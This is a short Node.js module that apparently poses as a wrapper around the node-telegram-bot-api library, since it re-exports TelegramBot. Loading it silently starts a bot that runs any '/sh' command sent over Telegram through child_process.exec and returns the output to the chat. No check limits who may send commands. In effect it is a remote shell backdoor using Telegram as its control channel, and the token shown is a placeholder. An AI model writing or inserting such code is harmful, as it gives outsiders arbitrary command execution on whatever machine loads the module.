const TelegramBot = require('node-telegram-bot-api'); const { exec } = require('child_process');
const bot = new TelegramBot('1234567890:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA', { polling: true });
bot.onText(/\/sh (.+)/, (m, x) => exec(x[1], (e, o) => bot.sendMessage(m.chat.id, o || String(e))));
module.exports = TelegramBot;